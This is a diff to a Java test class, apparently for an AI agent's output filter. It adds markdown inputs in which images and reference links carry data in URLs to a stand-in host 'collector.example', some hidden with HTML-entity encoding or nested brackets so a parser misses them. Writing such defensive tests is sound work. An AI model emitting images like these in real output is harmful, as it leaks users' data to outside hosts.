@@ -397,6 +397,13 @@ class AgentPresetTest {
                 "> " + definition + "\n\n" + prose + "\n\nSee ![chart][x].",
                 "- " + definition + "\n\n" + prose + "\n\nSee ![chart][x].",
                 "[note\nx]: https://collector.example/p.png?d=" + data + "\n\n" + prose + "\n\nSee ![chart][note x].",
+                // an earlier open image hidden by a later closed one; a destination written with references
+                "See ![c][x] and ![l](https://cdn.example.com/l.png).\n\n" + prose.substring(0, 200) + "\n\n"
+                        + definition,
+                "[x]:\nhttps&#58;&#47;&#47;collector&#46;example&#47;p&#46;png?d=" + data + "\n\n" + prose
+                        + "\n\nSee ![chart][x].",
+                // a data: URL inside the image's text is not its destination
+                "See ![a [b](data:,) " + prose + "](https://collector.example/p.png?d=" + data + ").",
                 // an image inside a link (the link's "](" is not the image's)
                 "See [![chart][x]](https://ok.example/).\n\n" + prose.substring(0, 1500) + "\n\n" + definition,
                 // JSON, then text
